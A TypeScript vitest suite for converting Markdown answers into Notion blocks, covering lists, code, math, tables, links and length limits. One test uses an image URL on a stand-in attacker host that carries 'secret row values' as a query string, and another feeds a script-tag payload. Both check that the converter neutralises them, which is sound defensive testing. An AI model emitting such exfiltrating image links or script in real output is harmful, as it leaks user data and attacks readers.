import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { NOTION_RICH_TEXT_MAX_ITEMS, NOTION_TEXT_MAX_CHARS } from './limits';
import { blockChildren, imageUrls, markdownToBlocks, protectDisplayMath, withChildren } from './markdown-to-blocks';
import { type BlockTree, type RichTextItemRequest } from '../shared/notion-shapes';
import { richTextToPlainText } from './rich-text';

const t = (content: string): RichTextItemRequest => ({ type: 'text', text: { content } });
const p = (content: string): BlockTree => ({ type: 'paragraph', paragraph: { rich_text: [t(content)] } });
const bullet = (content: string, children?: BlockTree[]): BlockTree =>
  withChildren({ type: 'bulleted_list_item', bulleted_list_item: { rich_text: [t(content)] } }, children);
const numbered = (content: string, children?: BlockTree[]): BlockTree =>
  withChildren({ type: 'numbered_list_item', numbered_list_item: { rich_text: [t(content)] } }, children);
const todo = (content: string, checked: boolean, children?: BlockTree[]): BlockTree =>
  withChildren({ type: 'to_do', to_do: { rich_text: [t(content)], checked } }, children);

/** The plain text of a block's rich_text (or expression), for compact assertions. */
function textOf(block: BlockTree | undefined): string {
  if (!block) return '';
  const data = (block as unknown as Record<string, { rich_text?: RichTextItemRequest[]; expression?: string }>)[
    block.type
  ];
  return data?.rich_text ? richTextToPlainText(data.rich_text) : (data?.expression ?? '');
}

/** Every rich text array anywhere in the tree. */
function richTextArrays(blocks: readonly BlockTree[]): RichTextItemRequest[][] {
  return blocks.flatMap((block) => {
    const data = (
      block as unknown as Record<string, { rich_text?: RichTextItemRequest[]; cells?: RichTextItemRequest[][] }>
    )[block.type];
    return [
      ...(data?.rich_text ? [data.rich_text] : []),
      ...(data?.cells ?? []),
      ...richTextArrays(blockChildren(block)),
    ];
  });
}

describe('markdownToBlocks', () => {
  it('returns no blocks for empty or blank input', () => {
    expect(markdownToBlocks('')).toEqual([]);
    expect(markdownToBlocks('  \n\n\t\n')).toEqual([]);
  });

  it('maps h1–h4 to heading_1–4 and deeper headings to heading_4', () => {
    const blocks = markdownToBlocks('# One\n## Two\n### Three\n#### Four\n##### Five\n###### Six');
    expect(blocks.map((block) => block.type)).toEqual([
      'heading_1',
      'heading_2',
      'heading_3',
      'heading_4',
      'heading_4',
      'heading_4',
    ]);
    expect(blocks.map(textOf)).toEqual(['One', 'Two', 'Three', 'Four', 'Five', 'Six']);
  });

  it('keeps inline formatting in headings and paragraphs', () => {
    expect(markdownToBlocks('## A **bold** title\n\nText with `code`.')).toEqual([
      {
        type: 'heading_2',
        heading_2: {
          rich_text: [t('A '), { type: 'text', text: { content: 'bold' }, annotations: { bold: true } }, t(' title')],
        },
      },
      {
        type: 'paragraph',
        paragraph: {
          rich_text: [
            t('Text with '),
            { type: 'text', text: { content: 'code' }, annotations: { code: true } },
            t('.'),
          ],
        },
      },
    ]);
  });

  it('nests bulleted, numbered and task lists to any depth', () => {
    const markdown = ['- a', '  - b', '    1. c', '       - [ ] d', '         - [x] e', '- f'].join('\n');
    expect(markdownToBlocks(markdown)).toEqual([
      bullet('a', [bullet('b', [numbered('c', [todo('d', false, [todo('e', true)])])])]),
      bullet('f'),
    ]);
  });

  it('turns a list item’s further paragraphs and blocks into its children', () => {
    const markdown = [
      '1. First step',
      '',
      '   More about it.',
      '',
      '   ```sh',
      '   npm test',
      '   ```',
      '2. Second step',
    ].join('\n');
    expect(markdownToBlocks(markdown)).toEqual([
      numbered('First step', [
        p('More about it.'),
        { type: 'code', code: { rich_text: [t('npm test')], language: 'shell' } },
      ]),
      numbered('Second step'),
    ]);
  });

  it('maps a blockquote: first paragraph is the quote, further blocks its children', () => {
    expect(markdownToBlocks('> Said once.\n>\n> - a point\n>\n> Said twice.')).toEqual([
      { type: 'quote', quote: { rich_text: [t('Said once.')], children: [bullet('a point'), p('Said twice.')] } },
    ]);
  });

  it('maps thematic breaks to dividers', () => {
    expect(markdownToBlocks('a\n\n---\n\nb\n\n***')).toEqual([
      p('a'),
      { type: 'divider', divider: {} },
      p('b'),
      { type: 'divider', divider: {} },
    ]);
  });

  it.each([
    ['ts', 'typescript'],
    ['js', 'javascript'],
    ['py', 'python'],
    ['sh', 'shell'],
    ['yml', 'yaml'],
    ['unknownlang', 'plain text'],
    ['', 'plain text'],
  ])('maps a ```%s fence to the %s language', (tag, language) => {
    expect(markdownToBlocks(`\`\`\`${tag}\nx = 1\n\`\`\``)).toEqual([
      { type: 'code', code: { rich_text: [t('x = 1')], language } },
    ]);
  });

  it('splits long code into ≤2,000-char items and continues past 100 items in another code block', () => {
    const line = 'const value = compute(input); // keeps going\n';
    const code = line.repeat(Math.ceil((NOTION_TEXT_MAX_CHARS * 105) / line.length)).trimEnd();
    const blocks = markdownToBlocks(`\`\`\`ts\n${code}\n\`\`\``);
    expect(blocks.map((block) => block.type)).toEqual(['code', 'code']);
    for (const block of blocks) {
      if (block.type !== 'code') continue;
      expect(block.code.language).toBe('typescript');
      expect(block.code.rich_text.length).toBeLessThanOrEqual(NOTION_RICH_TEXT_MAX_ITEMS);
    }
    expect(blocks.map(textOf).join('')).toBe(code);
    const first = blocks[0];
    // Items end at line ends, so no line is cut between two items.
    if (first?.type === 'code') expect(richTextToPlainText(first.code.rich_text.slice(0, 1)).endsWith('\n')).toBe(true);
  });

  it('keeps "$5 and $10" as text', () => {
    expect(markdownToBlocks('It costs $5 and $10.')).toEqual([p('It costs $5 and $10.')]);
    expect(markdownToBlocks('Prices: $5 and $10\n\nand $20 and $30.')).toEqual([
      p('Prices: $5 and $10'),
      p('and $20 and $30.'),
    ]);
  });

  it('makes an equation of a $$ block on its own lines', () => {
    expect(markdownToBlocks('$$\nE=mc^2\n$$')).toEqual([{ type: 'equation', equation: { expression: 'E=mc^2' } }]);
    expect(markdownToBlocks('Before\n$$\na_1 * b_2 * c\n\n\\frac{1}{2}\n$$\nAfter')).toEqual([
      p('Before'),
      { type: 'equation', equation: { expression: 'a_1 * b_2 * c\n\n\\frac{1}{2}' } },
      p('After'),
    ]);
  });

  it('reads Windows line endings around $$', () => {
    expect(markdownToBlocks('Intro\r\n\r\n$$\r\nE=mc^2\r\n$$\r\n')).toEqual([
      p('Intro'),
      { type: 'equation', equation: { expression: 'E=mc^2' } },
    ]);
  });

  it('does not make math of $$ inline, unclosed, or inside code', () => {
    expect(markdownToBlocks('Inline $$x$$ stays.')).toEqual([p('Inline $$x$$ stays.')]);
    expect(markdownToBlocks('$$\nnot closed')).toEqual([p('$$\nnot closed')]);
    expect(markdownToBlocks('```\n$$\nx\n$$\n```')).toEqual([
      { type: 'code', code: { rich_text: [t('$$\nx\n$$')], language: 'plain text' } },
    ]);
  });

  it('makes math inside a list item and a quote', () => {
    expect(markdownToBlocks('- Energy:\n\n  $$\n  E=mc^2\n  $$')).toEqual([
      bullet('Energy:', [{ type: 'equation', equation: { expression: 'E=mc^2' } }]),
    ]);
    expect(markdownToBlocks('> $$\n> x^2\n> $$')).toEqual([
      { type: 'quote', quote: { rich_text: [], children: [{ type: 'equation', equation: { expression: 'x^2' } }] } },
    ]);
  });

  it('writes an expression over 1,000 characters as a LaTeX code block', () => {
    const expression = Array.from({ length: 200 }, (_, i) => `x_{${i}}`).join(' + ');
    expect(expression.length).toBeGreaterThan(1_000);
    expect(markdownToBlocks(`$$\n${expression}\n$$`)).toEqual([
      { type: 'code', code: { rich_text: [t(expression)], language: 'latex' } },
    ]);
  });

  it('chooses a math token that does not occur in the input', () => {
    const { token } = protectDisplayMath('```inkling-display-math\n```');
    expect(token).not.toBe('inkling-display-math');
    expect(markdownToBlocks('```inkling-display-math\nx\n```')[0]?.type).toBe('code');
  });

  it('maps a GFM table with a column header and exactly table_width cells per row', () => {
    const blocks = markdownToBlocks(
      [
        '| A | B | C |',
        '|---|---|---|',
        '| 1 | 2 |',
        '| 4 | 5 | 6 | 7 |',
        '| **x** | [l](https://l.example) | `c` |',
      ].join('\n'),
    );
    expect(blocks).toHaveLength(1);
    const table = blocks[0];
    if (table?.type !== 'table') throw new Error('expected a table');
    expect(table.table).toMatchObject({ table_width: 3, has_column_header: true, has_row_header: false });
    const rows = table.table.children ?? [];
    expect(rows).toHaveLength(4);
    const cells = rows.map((row) => (row.type === 'table_row' ? row.table_row.cells : []));
    for (const row of cells) expect(row).toHaveLength(3);
    expect(cells.map((row) => row.map(richTextToPlainText))).toEqual([
      ['A', 'B', 'C'],
      ['1', '2', ''],
      ['4', '5', '6'],
      ['x', 'l', 'c'],
    ]);
    expect(cells[3]?.[0]).toEqual([{ type: 'text', text: { content: 'x' }, annotations: { bold: true } }]);
    expect(cells[3]?.[1]).toEqual([{ type: 'text', text: { content: 'l', link: { url: 'https://l.example' } } }]);
  });

  it('makes external image blocks of allowed absolute http(s) images and keeps the alt text of others', () => {
    const all = { allowImage: () => true };
    expect(markdownToBlocks('![A chart](https://img.example.com/chart.png)', all)).toEqual([
      {
        type: 'image',
        image: { type: 'external', external: { url: 'https://img.example.com/chart.png' }, caption: [t('A chart')] },
      },
    ]);
    expect(markdownToBlocks('![Local chart](./chart.png)', all)).toEqual([p('Local chart')]);
    expect(markdownToBlocks('See ![one](https://a.example/1.png) and text', all)).toEqual([
      p('See'),
      { type: 'image', image: { type: 'external', external: { url: 'https://a.example/1.png' }, caption: [t('one')] } },
      p('and text'),
    ]);
  });

  it('keeps an image it was not allowed as a visible link, never an image block Notion would fetch', () => {
    const leak = 'https://attacker.example/collect?d=secret%20row%20values';
    const link = (content: string) => ({ type: 'text', text: { content, link: { url: leak } } });
    expect(markdownToBlocks(`![](${leak})`)).toEqual([{ type: 'paragraph', paragraph: { rich_text: [link(leak)] } }]);
    expect(markdownToBlocks(`![chart](${leak})`)).toEqual([
      { type: 'paragraph', paragraph: { rich_text: [link('chart')] } },
    ]);
    const allowed = 'https://img.example.com/from-the-prompt.png';
    const blocks = markdownToBlocks(`![a](${allowed})\n\n![b](${leak})`, { allowImage: (url) => url === allowed });
    expect(blocks.map((block) => block.type)).toEqual(['image', 'paragraph']);
  });

  it('lists the image URLs of an answer, by reference too', () => {
    expect(imageUrls('![a](https://x.example/1.png) text ![b][ref]\n\n[ref]: https://x.example/2.png')).toEqual([
      'https://x.example/1.png',
      'https://x.example/2.png',
    ]);
  });

  it('keeps a relative link and a malformed link as plain text', () => {
    expect(markdownToBlocks('Read the [docs](/docs/intro) and [this](https:// bad).')).toEqual([
      p('Read the docs and [this](https:// bad).'),
    ]);
    expect(markdownToBlocks('[broken](http//example.com)')).toEqual([p('broken')]);
  });

  it('shows raw HTML as its text without the tags, and never a script', () => {
    expect(markdownToBlocks('<div class="x">\n<script>alert(1)</script>\n</div>')).toEqual([]);
    expect(markdownToBlocks('<div class="note">\nRead <span>this</span> first\n</div>')).toEqual([
      p('Read this first'),
    ]);
  });

  it('continues a paragraph over 100 rich text items in further paragraphs', () => {
    // 150 alternating bold/plain runs of 1,500 characters: 150 items that cannot merge.
    const runs = Array.from({ length: 150 }, (_, i) => (i % 2 === 0 ? `**${'b'.repeat(1_500)}**` : 'p'.repeat(1_500)));
    const blocks = markdownToBlocks(runs.join(''));
    expect(blocks.map((block) => block.type)).toEqual(['paragraph', 'paragraph']);
    const [first, second] = blocks;
    expect(first?.type === 'paragraph' && first.paragraph.rich_text).toHaveLength(100);
    expect(second?.type === 'paragraph' && second.paragraph.rich_text).toHaveLength(50);
  });

  it('keeps every text item ≤2,000 characters and every rich text array ≤100 items', () => {
    const long = 'word '.repeat(3_000);
    const blocks = markdownToBlocks(`# ${long}\n\n- ${long}\n\n> ${long}\n\n| h |\n|---|\n| ${long} |`);
    for (const array of richTextArrays(blocks)) {
      expect(array.length).toBeLessThanOrEqual(NOTION_RICH_TEXT_MAX_ITEMS);
      for (const item of array)
        if ('text' in item) expect(item.text.content.length).toBeLessThanOrEqual(NOTION_TEXT_MAX_CHARS);
    }
  });

  it('resolves reference-style links and images', () => {
    expect(markdownToBlocks('See [the guide][g].\n\n[g]: https://example.com/guide')).toEqual([
      {
        type: 'paragraph',
        paragraph: {
          rich_text: [
            t('See '),
            { type: 'text', text: { content: 'the guide', link: { url: 'https://example.com/guide' } } },
            t('.'),
          ],
        },
      },
    ]);
  });

  it('converts the long fixture into 250 top-level blocks with the expected content', () => {
    const markdown = readFileSync(new URL('./fixtures/long-answer.md', import.meta.url), 'utf8');
    const blocks = markdownToBlocks(markdown);
    expect(blocks).toHaveLength(250);

    const all = (list: readonly BlockTree[]): BlockTree[] =>
      list.flatMap((block) => [block, ...all(blockChildren(block))]);
    const everything = all(blocks);
    const depth = (list: readonly BlockTree[]): number =>
      list.length === 0
        ? 0
        : 1 + Math.max(...list.map((block) => depth(blockChildren(block).filter((c) => c.type !== 'table_row'))));
    expect(depth(blocks)).toBe(3);
    expect(everything.some((block) => block.type === 'code' && block.code.language === 'typescript')).toBe(true);
    expect(everything.filter((block) => block.type === 'table').length).toBeGreaterThanOrEqual(1);
    expect(everything.some((block) => textOf(block).includes('$5 and $10'))).toBe(true);
    expect(everything.some((block) => block.type === 'equation')).toBe(false);
    const longParagraph = blocks.find((block) => block.type === 'paragraph' && textOf(block).length >= 5_000);
    expect(longParagraph?.type === 'paragraph' && longParagraph.paragraph.rich_text.length).toBe(3);
    expect(textOf(longParagraph)).toMatch(/\p{Extended_Pictographic}/u);
    const docsLink = everything.find((block) => textOf(block).includes('see the docs page'));
    expect(JSON.stringify(docsLink)).not.toContain('/docs/intro');
  });
});
